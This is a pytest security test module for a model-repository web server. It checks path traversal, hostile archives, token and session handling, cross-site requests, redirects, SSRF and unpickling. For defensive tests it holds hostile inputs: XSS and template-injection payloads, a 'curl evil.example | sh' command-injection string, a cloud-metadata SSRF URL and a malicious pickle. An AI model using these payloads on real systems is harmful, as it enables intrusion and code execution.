"""This module tests that the repository server gives nothing away and runs nothing (S12-S14, S19-S23, S25-S27).

Every route and method is taken from the URL map, so that a new one is in these tests from its first day.
"""

from __future__ import annotations

import hashlib
import json
import re
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from flask import Flask
from flask.testing import FlaskClient

from bentobatch.errors import UsageError
from bentobatch.loopback import is_loopback
from bentobatch.repository.local import LocalRepository
from bentobatch.repository.server.app import create_app
from bentobatch.repository.server.auth import SESSION, Sessions, Token, Tokens, append, hashed, new_token
from bentobatch.repository.server.guard import COOKIE, PUBLIC
from bentobatch.repository.server.state import Options, options_for
from tests.repository.making import make_bundle
from tests.repository.server.serving import READ, WRITE, archive_of, bearer, token_file
from tests.security.test_archives import TARS, ZIPS, tar_of, zip_of
from tests.security.test_repository_paths import PAYLOADS, everything, opened

LOCAL = "http://localhost"
ORIGIN = {"Origin": LOCAL}


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository with one bundle, and beside it what must stay as it is."""
    monkeypatch.setenv("BENTOBATCH_HOME", str(tmp_path / "world" / "home"))
    make_bundle(tmp_path / "world" / "outside" / "victim", "outside:victim")
    make_bundle(tmp_path / "world" / "home" / "victim", "victim:1")
    monkeypatch.chdir(tmp_path / "world" / "outside")
    return tmp_path / "world"


@pytest.fixture
def stored(world: Path) -> Iterator[LocalRepository]:
    repository = LocalRepository()
    repository.push(make_bundle(world / "b"), labels={"a": "b"})
    yield repository
    repository.close()


@pytest.fixture
def app(stored: LocalRepository) -> Flask:
    return create_app(stored)


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return app.test_client()


@pytest.fixture
def guarded(stored: LocalRepository, tmp_path: Path) -> Flask:
    """The same with the tokens READ and WRITE."""
    return create_app(stored, Options(tokens=Tokens(file=token_file(tmp_path))))


def routes(app: Flask) -> list[tuple[str, str, str]]:
    """(endpoint, method, path) of the whole URL map."""
    found = []
    for rule in app.url_map.iter_rules():
        path = rule.rule.replace("<version>", "1").replace("<name>", "style.css" if "static" in rule.rule else "Iris")
        found += [(rule.endpoint, method, path) for method in sorted(rule.methods or ())]
    return found


def form_key(client: FlaskClient, path: str = "/sign-in") -> str:
    match = re.search(r'name="form_key" value="([0-9a-f]+)"', client.get(path).text)
    assert match
    return match[1]


def signed_in(app: Flask, token: str) -> FlaskClient:
    client = app.test_client()
    answer = client.post("/sign-in", data={"token": token, "form_key": form_key(client)}, headers=ORIGIN)
    assert (answer.status_code, answer.headers["Location"]) == (303, "/")
    return client


# -- S12, S13, S14: paths and archives ----------------------------------------------------------------------------

TEMPLATES = {
    "get": ("GET", "/api/v1/bundles/{}/{}"),
    "archive": ("GET", "/api/v1/bundles/{}/{}/archive.tar.gz"),
    "push": ("PUT", "/api/v1/bundles/{}/{}"),
    "delete": ("DELETE", "/api/v1/bundles/{}/{}"),
    "labels": ("PATCH", "/api/v1/bundles/{}/{}/labels"),
    "page": ("GET", "/bundles/{}/{}"),
    "page of names": ("GET", "/bundles/{}"),
    "ask": ("GET", "/bundles/{}/{}/delete"),
    "delete page": ("POST", "/bundles/{}/{}/delete"),
    "static": ("GET", "/static/{}"),
}
ENCODINGS: dict[str, Callable[[str], str]] = {
    "escaped": lambda text: quote(text.encode("utf-8", "surrogatepass"), safe=""),
    "with slashes": lambda text: quote(text.encode("utf-8", "surrogatepass"), safe="/\\;:~"),
    "escaped twice": lambda text: quote(quote(text.encode("utf-8", "surrogatepass"), safe=""), safe=""),
}


@pytest.mark.parametrize("verb", TEMPLATES)
def test_no_path_leads_out_of_the_repository(verb: str, world: Path, client: FlaskClient) -> None:
    """S12: each payload in each encoding, as a name and as a version: refused, and nothing outside is touched."""
    method, template = TEMPLATES[verb]
    key = form_key(client) if method == "POST" else ""
    before = everything(world)
    body: dict[str, Any] = {
        "PUT": {"data": archive_of(world / "b"), "content_type": "application/gzip"},
        "PATCH": {"json": {"set": {"x": "y"}}},
        "POST": {"data": {"form_key": key}, "headers": ORIGIN},
    }.get(method, {})
    for payload in PAYLOADS:
        for encode in ENCODINGS.values():
            text = encode(payload)
            for words in {(text, "1"), ("Iris", text)} if template.count("{}") == 2 else {(text,)}:
                opened.clear()
                answer = client.open(template.format(*words), method=method, **body)
                assert answer.status_code in (400, 404, 405), (words, answer.status_code)
                assert "Location" not in answer.headers
                victims = [
                    path for path in opened if path.startswith((str(world / "outside"), "/etc", str(world / "b")))
                ]
                assert victims == [], words
    assert everything(world) == before


def test_no_query_and_no_header_leads_out_of_the_repository(world: Path, client: FlaskClient) -> None:
    """S12, S20: names, selectors, searches and labels are compared with what is there, and expand to nothing."""
    before = everything(world)
    for payload in PAYLOADS:
        opened.clear()
        for path in ("/api/v1/bundles?name=", "/api/v1/bundles?labels=", "/?q=", "/?labels=", "/bundles/Iris?labels="):
            answer = client.get(path + quote(payload.encode("utf-8", "surrogatepass"), safe=""))
            assert answer.status_code in (200, 400), (path, payload)
            assert "root:x:" not in answer.text
            assert str(world) not in answer.text
        victims = [path for path in opened if path.startswith((str(world / "outside"), "/etc", str(world / "b")))]
        assert victims == [], payload
    assert everything(world) == before


@pytest.mark.parametrize("kind", ["tar.gz", "zip"])
def test_hostile_archives_are_refused_and_leave_nothing(
    kind: str, world: Path, client: FlaskClient, stored: LocalRepository, tmp_path: Path
) -> None:
    """S14: links, devices, names that lead out, the same name many times; 400, and the member's name."""
    before = everything(world)
    cases: dict[str, Any] = TARS if kind == "tar.gz" else ZIPS
    for number, (case, (make, _)) in enumerate(cases.items()):
        file = (tar_of if kind == "tar.gz" else zip_of)(make(world / "outside"), world / "b", tmp_path / str(number))
        answer = client.put(
            "/api/v1/bundles/Iris/1",
            data=file.read_bytes(),
            content_type="application/gzip" if kind == "tar.gz" else "application/zip",
        )
        assert (answer.status_code, answer.get_json()["error"]["type"]) == (400, "BundleError"), case
    assert everything(world) == before
    assert not Path("/evil").exists()


# -- S21, S23: tokens ---------------------------------------------------------------------------------------------


def test_every_route_and_method_asks_for_a_token(guarded: Flask) -> None:
    """S21: none, a wrong one, an empty one, one that is too short, and the hash itself: 401, but for what is public."""
    digest = hashed(WRITE, "write").digest
    wrong = ["", "x", WRITE[:-1], READ + "x", digest, f"sha256:{digest}", WRITE.upper(), "\xff" * 40]
    headers: list[dict[str, str]] = [{}, {"Authorization": f"Basic {WRITE}"}, {"Authorization": WRITE}]
    headers += [bearer(token) for token in wrong] + [{"X-Token": WRITE}, {"Cookie": f"{COOKIE}={WRITE}"}]
    seen = set()
    for endpoint, method, path in routes(guarded):
        for header in headers:
            answer = guarded.test_client(use_cookies=False).open(path, method=method, headers={**ORIGIN, **header})
            if endpoint in PUBLIC and method != "POST":
                assert answer.status_code == 200, (method, path)
            else:
                assert answer.status_code in (401, 403), (method, path, header)
                assert "Iris" not in answer.text
            seen.add(endpoint)
    assert seen == set(guarded.view_functions)
    for path in ("/nothing", "/api/v1/nothing", "/console", "/static/x"):
        assert guarded.test_client().get(path).status_code == (404 if path == "/static/x" else 401)


def test_a_token_may_do_what_it_is_for(guarded: Flask, stored: LocalRepository) -> None:
    """S21: one that reads reads, and changes nothing, by whatever route and method; one that writes does both."""
    for endpoint, method, path in routes(guarded):
        if endpoint.startswith("pages."):
            continue
        answer = guarded.test_client().open(path, method=method, headers=bearer(READ))
        if method in ("GET", "HEAD", "OPTIONS"):
            assert answer.status_code == 200, (method, path)
        else:
            assert answer.status_code == 403, (method, path)
            assert answer.get_json()["error"]["message"] == "this token may read, and not change anything"
    reader = signed_in(guarded, READ)
    for endpoint, method, path in routes(guarded):
        if endpoint.startswith("pages.") and endpoint not in ("pages.sign_out", "pages.signed_in"):
            answer = reader.open(path, method=method, headers=ORIGIN, data={"form_key": form_key(reader, "/")})
            assert answer.status_code == (403 if method == "POST" else 200), (method, path)
    assert "Delete" not in reader.get("/bundles/Iris/1").text
    assert stored.get("Iris:1").labels == {"a": "b"}
    writer = guarded.test_client()
    assert (
        writer.patch("/api/v1/bundles/Iris/1/labels", json={"set": {"c": "d"}}, headers=bearer(WRITE)).status_code
        == 200
    )
    assert writer.delete("/api/v1/bundles/Iris/1", headers=bearer(WRITE)).status_code == 204


def test_a_revoked_token_counts_no_longer(stored: LocalRepository, tmp_path: Path) -> None:
    """S23: at once, its sessions too; a file that is damaged lets nobody in."""
    file = token_file(tmp_path)
    app = create_app(stored, Options(tokens=Tokens(file=file)))
    client, page = app.test_client(), signed_in(app, WRITE)
    assert client.get("/api/v1", headers=bearer(WRITE)).status_code == page.get("/").status_code == 200
    lines = file.read_text().splitlines()
    file.write_text(f"{lines[0]}\n")
    assert client.get("/api/v1", headers=bearer(WRITE)).status_code == page.get("/").status_code == 401
    assert client.get("/api/v1", headers=bearer(READ)).status_code == 200
    file.write_text("read plain-text-token\n")
    assert client.get("/api/v1", headers=bearer(READ)).status_code == 503
    file.unlink()
    assert client.get("/api/v1", headers=bearer(READ)).status_code == page.get("/").status_code == 503


def test_a_session_ends_with_signing_out_and_by_itself(guarded: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    """S23: a copy of the cookie is worth nothing afterwards, and one that was changed never is."""
    client = signed_in(guarded, WRITE)
    cookie = client.get_cookie(COOKIE)
    assert cookie is not None
    assert (cookie.http_only, cookie.same_site, cookie.path) == (True, "Strict", "/")
    assert WRITE not in cookie.value
    assert hashed(WRITE, "write").digest not in cookie.value

    def status(value: str) -> int:
        return guarded.test_client(use_cookies=False).get("/", headers={"Cookie": f"{COOKIE}={value}"}).status_code

    assert status(cookie.value) == 200
    said, _, mac = cookie.value.rpartition(".")
    for changed in (said, f"{said}.", f".{mac}", f"x{cookie.value}", f"{cookie.value[:-1]}_", mac, "...", "\xe9.\xe9"):
        assert status(changed) == 401
    plain = guarded.test_client(use_cookies=False)
    assert plain.get("/api/v1", headers={"Cookie": f"{COOKIE}={cookie.value}"}).status_code == 401
    answer = client.post("/sign-out", data={"form_key": form_key(client, "/")}, headers=ORIGIN)
    assert (answer.status_code, answer.headers["Location"]) == (303, "/sign-in")
    assert client.get_cookie(COOKIE) is None
    assert status(cookie.value) == 401
    sessions, token = Sessions(), Token("read", "a" * 64)
    begun = sessions.begin(token)
    assert sessions.token_id(begun) == token.id
    assert Sessions().token_id(begun) is None
    now = time.time()
    monkeypatch.setattr(time, "time", lambda: now + SESSION + 2)
    assert sessions.token_id(begun) is None


def test_tokens_are_long_random_and_kept_as_hashes(tmp_path: Path, capfd: Any) -> None:
    """S23: what the command makes is shown once; short, empty and plain ones are refused."""
    from bentobatch.cli.main import main

    assert main(["repository-server", "token", "read", "--name", "ci", "--token-file", str(tmp_path / "t")]) == 0
    text = capfd.readouterr().out.strip()
    assert len(text) > 40
    assert text not in (tmp_path / "t").read_text()
    assert (tmp_path / "t").stat().st_mode & 0o777 == 0o600
    assert Tokens(file=tmp_path / "t").find(text) == Token("read", hashed(text, "read").digest, "ci")
    assert main(["repository-server", "token", "write"]) == 0
    out, err = capfd.readouterr()
    assert Tokens(text=err.splitlines()[-1]).find(out.strip()) is not None
    assert new_token("read")[0] != new_token("read")[0]
    for short in ("", "x", "x" * 31, "x " * 32, "é" * 40):
        with pytest.raises(UsageError):
            hashed(short, "write")
    short_hash = Token("write", hashlib.sha256(b"short").hexdigest())
    assert Tokens(text=str(short_hash)).find("short") is None
    empty = hashlib.sha256().hexdigest()
    for line in ("write plain", "admin sha256:" + "a" * 64, "write sha256:abc", f"write sha256:{empty}"):
        with pytest.raises(UsageError) as caught:
            Tokens(text=line).current()
        assert "plain" not in str(caught.value)
    append(tmp_path / "open", Token("read", "a" * 64))
    (tmp_path / "open").chmod(0o666)
    with pytest.raises(UsageError, match="may be changed by others"):
        Tokens(file=tmp_path / "open").current()


def test_only_loopback_goes_without_tokens() -> None:
    """S21: whatever way the address is spelled."""
    for host in ("127.0.0.1", "127.8.9.1", "::1", "localhost"):
        assert is_loopback(host)
        assert options_for(host, tokens=None).hosts is not None
    for host in (
        "0.0.0.0",
        "::",
        "",
        "10.0.0.1",
        "::ffff:0.0.0.0",
        "example.org",
        "localhost.evil.org",
        "0",
        "127.1.evil",
    ):
        assert not is_loopback(host)
        with pytest.raises(UsageError, match="needs tokens"):
            options_for(host, tokens=None)


# -- S22, S25: other sites ----------------------------------------------------------------------------------------


def test_a_foreign_host_is_refused_by_every_route(app: Flask) -> None:
    """S22: DNS rebinding: a page of evil.example at this server's address."""
    foreign = ("evil.example", "localhost.evil.example", "127.0.0.1.evil.example:3000", "evil.example:80@localhost", "",
               "[::2]", "localhost:x", "127.0.0.2", "0.0.0.0", "localhost/x", "loc\xe4lhost")  # fmt: skip
    for endpoint, method, path in routes(app):
        for host in foreign:
            answer = app.test_client().open(path, method=method, headers={"Host": host})
            assert answer.status_code == (200 if endpoint == "service.healthz" else 403), (path, host)
        for host in ("localhost:8080", "127.0.0.1:3000", "[::1]:3000"):
            assert app.test_client().open(path, method="OPTIONS", headers={"Host": host}).status_code == 200


def test_a_foreign_origin_changes_nothing(app: Flask, stored: LocalRepository) -> None:
    """S22: whatever a browser sends for another site, from every route and method that changes something."""
    foreign = [{"Origin": origin} for origin in ("http://evil.example", "null", "", "http://localhost.evil.example",
               "http://localhost:9999", "http://evil.example#localhost", "file://")]  # fmt: skip
    foreign += [{"Sec-Fetch-Site": site} for site in ("cross-site", "same-site", "x")]
    key = form_key(app.test_client())
    for _, method, path in routes(app):
        if method in ("GET", "HEAD", "OPTIONS"):
            continue
        for header in foreign:
            data = {"form_key": key} if method == "POST" else None
            answer = app.test_client().open(path, method=method, headers=header, data=data)
            assert answer.status_code == 403, (method, path, header)
    assert stored.get("Iris:1").labels == {"a": "b"}


def test_a_form_needs_the_key_of_its_session(guarded: Flask, stored: LocalRepository) -> None:
    """S22: none, another session's, one of before signing in: 403. JSON and files are no forms."""
    client, other = signed_in(guarded, WRITE), signed_in(guarded, WRITE)
    path = "/bundles/Iris/1/delete"
    for key in ("", "x", "é", form_key(guarded.test_client()), form_key(other, "/")):
        assert client.post(path, data={"form_key": key}, headers=ORIGIN).status_code == 403
    key = form_key(client, path)
    assert client.post(path, json={"form_key": key}, headers=ORIGIN).status_code == 403
    multipart = client.post(path, data={"form_key": key}, content_type="multipart/form-data", headers=ORIGIN)
    assert multipart.status_code == 403
    assert str(stored.get("Iris:1").tag) == "Iris:1"
    answer = client.post(path, data={"form_key": key}, headers=ORIGIN)
    assert (answer.status_code, answer.headers["Location"]) == (303, "/")
    assert list(stored.list()) == []


def test_no_redirect_leads_where_a_request_says(app: Flask, client: FlaskClient) -> None:
    """S25: slashes, backslashes, next= and forwarded hosts; what redirects there are lead to this server's own pages."""
    spellings = ["//evil.example", "//evil.example/", "/\\evil.example", "///evil.example/..", "//evil.example/bundles/Iris",
                 "/bundles//evil.example", "/bundles/Iris/", "/bundles/Iris//", "/static//evil.example", "/sign-in/",
                 "/api/v1/", "/?next=//evil.example", "/sign-in?next=//evil.example",
                 "/%0d%0aLocation:%20//evil.example"]  # fmt: skip
    for spelling in spellings:
        for method in ("GET", "POST", "HEAD"):
            headers = {
                **ORIGIN,
                "X-Forwarded-Host": "evil.example",
                "X-Forwarded-Proto": "https",
                "X-Script-Name": "/e",
            }
            answer = client.open(spelling, method=method, headers=headers)
            assert "Location" not in answer.headers, spelling
            assert "//evil.example" not in re.sub(r'value="[^"]*"', "", answer.text) or answer.status_code >= 400


# -- S26: what browsers make of it --------------------------------------------------------------------------------

SCRIPTS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "javascript:alert(1)",
    "</pre></code></title><svg onload=alert(1)>",
    "<!--<script>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}",
    "&lt;script&gt;&#60;b&#62;",
    "]]><script>alert(1)</script>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "\u202e\u2066<iframe src=//evil.example>",
]


class Shape(HTMLParser):
    """The elements and attributes of a page, its links, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.shape: list[tuple[str, tuple[str, ...]]] = []
        self.links: list[str] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, tuple(sorted(name for name, _ in attributes))))
        links = [value or "" for name, value in attributes if name in ("href", "src", "action")]
        self.links += [link for link in links if link != "#main"]

    def handle_data(self, data: str) -> None:
        self.text += data


def evil_bundle(folder: Path, text: str) -> Path:
    """A bundle that says ``text`` wherever a bundle says anything."""
    name = text if text.isprintable() else "harmless"  # no command is shown for an api that no terminal can
    body = {"content": {"application/json": {"example": text}}}
    docs = {"paths": {"/x": {"post": {"operationId": name, "requestBody": body}}}}
    api = {"name": name, "input_type": text, "output_type": text, "docs": text, "input_config": {text: text},
           "input_schema": {"columns": [text]}}  # fmt: skip
    env = {"requirements_txt": text, "conda_env": {text: text}, "python_version": text, "docker_base_image": text}
    artifact = {"name": text, "artifact_type": text, "metadata": {text: text, "list": [text], "map": {text: text}}}
    return make_bundle(folder, "Evil:1", docs=json.dumps(docs), apis=[api], env=env, artifacts=[artifact])


@pytest.mark.parametrize("number", range(len(SCRIPTS)))
def test_what_a_bundle_says_is_text(number: int, client: FlaskClient, stored: LocalRepository, tmp_path: Path) -> None:
    """S26: the same elements and attributes as with harmless text, and the text is there to read."""
    pages = {}
    for text in ("harmless", SCRIPTS[number]):
        stored.push(evil_bundle(tmp_path / str(len(pages)), text))
        pages[text] = [Shape(client.get(path).text) for path in ("/", "/bundles/Evil", "/bundles/Evil/1")]
        stored.delete("Evil:1")
    harmless, evil = pages["harmless"], pages[SCRIPTS[number]]
    assert [page.shape for page in evil] == [page.shape for page in harmless]
    assert [page.links for page in evil] == [page.links for page in harmless]
    for page in evil:
        assert SCRIPTS[number] in page.text
        assert all(link.startswith("/") and not link.startswith("//") for link in page.links)


@pytest.mark.parametrize("text", SCRIPTS)
def test_what_a_request_says_is_text(text: str, client: FlaskClient) -> None:
    """S26: searches, selectors, names in paths and in errors, of pages and of the API."""
    escaped = quote(text, safe="")
    for path in (
        "/?q={}",
        "/?labels={}",
        "/bundles/Iris?labels={}",
        "/bundles/{}",
        "/bundles/Iris/{}",
        "/{}",
        "/static/{}",
    ):
        evil, harmless = (Shape(client.get(path.format(word)).text) for word in (escaped, quote("-no good-!", safe="")))
        assert evil.shape == harmless.shape, path
        assert all(link.startswith("/") and not link.startswith("//") for link in evil.links)
    for path in ("/api/v1/bundles/{}/1", "/api/v1/bundles?labels={}", "/api/v1/{}", "/metrics/{}"):
        answer = client.get(path.format(escaped))
        assert answer.status_code in (200, 400, 404)
        if path.startswith("/api"):
            assert answer.headers["Content-Type"] == "application/json"


def test_commands_to_copy_are_words_of_a_shell(client: FlaskClient, stored: LocalRepository, tmp_path: Path) -> None:
    """S16: an api's name is one word, whatever is in it."""
    import shlex

    stored.push(evil_bundle(tmp_path / "e", "x; curl evil.example | sh #$(id)`id`'"))
    text = Shape(client.get("/bundles/Evil/1").text).text
    line = next(line for line in text.splitlines() if line.strip().startswith("bentobatch run"))
    assert shlex.split(line)[:4] == ["bentobatch", "run", "Evil:1", "x; curl evil.example | sh #$(id)`id`'"]


def test_every_answer_has_the_headers_that_bind_a_browser(guarded: Flask) -> None:
    """S26: also errors, of every route and method; nothing but the package's own files may be kept."""
    for headers in ({}, bearer(READ), bearer(WRITE), {"Host": "evil.example"}):
        for endpoint, method, path in [*routes(guarded), ("", "GET", "/nothing"), ("", "TRACE", "/")]:
            answer = guarded.test_client().open(path, method=method, headers=headers)
            assert answer.headers["Content-Security-Policy"].startswith("default-src 'self'; ")
            assert "unsafe" not in answer.headers["Content-Security-Policy"]
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            assert answer.headers["X-Frame-Options"] == "DENY"
            kept = (
                "no-cache"
                if endpoint == "pages.static" and answer.status_code == 200 and method != "OPTIONS"
                else "no-store"
            )
            assert answer.headers["Cache-Control"] == kept
            assert "Access-Control-Allow-Origin" not in answer.headers
            assert "Set-Cookie" not in answer.headers
            answer.close()


def test_the_pages_have_nothing_inline_and_nothing_from_elsewhere(client: FlaskClient) -> None:
    """S26: so that the policy can forbid it."""
    for path in ("/", "/bundles/Iris", "/bundles/Iris/1", "/bundles/Iris/1/delete", "/sign-in", "/nothing"):
        html = client.get(path).text
        assert not re.search(r"<style|\sstyle=|\son\w+=|<script(?![^>]*\ssrc=)|https?://(?!localhost)", html), path


# -- S19, S20, S27: what the server does not do -------------------------------------------------------------------

connected: list[object] = []


def watch(event: str, arguments: tuple[object, ...]) -> None:
    if event in ("socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system", "os.exec", "import"):
        connected.append((event, *arguments[:2]))


sys.addaudithook(watch)


def test_no_request_makes_the_server_connect_or_start_anything(
    client: FlaskClient, stored: LocalRepository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """S19, S20: URLs in every field, of the request and of the bundle; and no variable of the environment appears."""
    monkeypatch.setenv("SECRET_OF_THE_SERVER", "the-servers-secret")
    text = "http://169.254.169.254/latest $SECRET_OF_THE_SERVER ${SECRET_OF_THE_SERVER} %SECRET_OF_THE_SERVER%"
    archive = archive_of(evil_bundle(tmp_path / "e", text))
    connected.clear()
    answers = [
        client.put("/api/v1/bundles/Evil/1", data=archive, content_type="application/gzip"),
        client.put(
            "/api/v1/bundles/Evil/1?url=http://127.0.0.1:1/x.tar.gz", json={"url": "http://127.0.0.1:1/x.tar.gz"}
        ),
        client.get("/bundles/Evil/1"),
        client.get("/", query_string={"q": text, "labels": text}),
        client.get("/api/v1/bundles", query_string={"labels": text, "name": text}),
        client.get("/api/v1/bundles/Evil/1"),
        client.get("/api/v1/bundles/Evil/1/archive.tar.gz"),
    ]
    assert [answer.status_code for answer in answers] == [200, 415, 200, 200, 400, 200, 200]
    assert all(b"the-servers-secret" not in answer.data for answer in answers)
    assert [one for one in connected if one[0] != "import"] == []  # type: ignore[index]


HOSTILE = """
import sys
from pathlib import Path
from tests.repository.making import make_bundle
from tests.repository.server.serving import archive_of
import tests.repository.making as making
making.CODE = "open({canary!r}, 'w').close()\\n"
from bentobatch.repository.local import LocalRepository
from bentobatch.repository.server.app import create_app

bundle = make_bundle(Path({folder!r}) / "b", model={pickle!r})
client = create_app(LocalRepository(Path({folder!r}) / "r")).test_client()
assert client.put("/api/v1/bundles/Iris/1", data=archive_of(bundle), content_type="application/gzip").status_code == 200
for path in ("/", "/bundles/Iris", "/bundles/Iris/1", "/api/v1/bundles", "/api/v1/bundles/Iris/1",
             "/api/v1/bundles/Iris/1/archive.tar.gz", "/metrics"):
    assert client.get(path).status_code == 200, path
assert client.patch("/api/v1/bundles/Iris/1/labels", json={{"set": {{"a": "b"}}}}).status_code == 200
assert client.delete("/api/v1/bundles/Iris/1").status_code == 204
print(*sorted(sys.modules))
"""


def test_the_server_neither_imports_nor_unpickles_a_bundle(tmp_path: Path) -> None:
    """Promise 7: after every verb there is no trace of its code, nor of what would load it."""
    canary = tmp_path / "canary"
    pickle = f"cbuiltins\nopen\n(V{canary}\nVw\ntR.".encode()
    script = HOSTILE.format(canary=str(canary), folder=str(tmp_path), pickle=pickle)
    root = Path(__file__).parents[2]
    done = subprocess.run([sys.executable, "-c", script], cwd=root, capture_output=True, text=True, check=True)
    loaded = set(done.stdout.split())
    assert not canary.exists()
    assert "bentobatch.repository.server.app" in loaded
    assert loaded.isdisjoint({"service", "Iris", "cloudpickle", "joblib", "bentobatch.frameworks.unpickle"})
    assert loaded.isdisjoint({"bentobatch.bundle.load", "bentobatch.bundle.imports", "bentobatch.bento_service"})


@pytest.mark.parametrize("variable", ["FLASK_DEBUG", "FLASK_ENV", "WERKZEUG_DEBUG_PIN"])
def test_the_server_never_debugs(
    variable: str, stored: LocalRepository, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """S27: whatever the environment says; an error that nobody foresaw shows nothing of the code."""
    monkeypatch.setenv(variable, "1")
    app = create_app(stored)
    assert not app.debug
    client = app.test_client()
    assert client.get("/console").status_code == 404
    assert client.get("/?__debugger__=yes&cmd=resource&f=style.css").headers["Content-Type"].startswith("text/html")

    def broken(*_: object, **__: object) -> None:
        raise ZeroDivisionError("the-inner-secret")

    monkeypatch.setattr(stored, "list", broken)
    for path in ("/", "/api/v1/bundles"):
        answer = client.get(path)
        assert answer.status_code == 500
        assert "the-inner-secret" not in answer.text
        assert "Traceback" not in answer.text
    assert "the-inner-secret" in caplog.text  # its log has it


def test_a_public_url_names_the_host_and_makes_cookies_secure(stored: LocalRepository, tmp_path: Path) -> None:
    """Behind a proxy with TLS: S22 holds for its name, and the commands show it."""
    tokens = Tokens(file=token_file(tmp_path))
    options = options_for("0.0.0.0", tokens=tokens, public_url="https://models.example.org/")
    client = create_app(stored, options).test_client()
    base = "https://models.example.org"
    key = re.search(r'value="([0-9a-f]{64})"', client.get("/sign-in", base_url=base).text)
    assert key
    answer = client.post("/sign-in", base_url=base, data={"token": READ, "form_key": key[1]}, headers={"Origin": base})
    assert "Secure" in answer.headers["Set-Cookie"]
    assert f"repository_url={base}" in client.get("/bundles/Iris/1", base_url=base).text
    assert client.get("/sign-in", base_url="http://evil.example").status_code == 403
    listed = client.get("/api/v1/bundles", base_url=base, headers=bearer(READ)).get_json()["bundles"]
    assert listed[0]["uri"]["uri"].startswith(f"{base}/api/v1/")
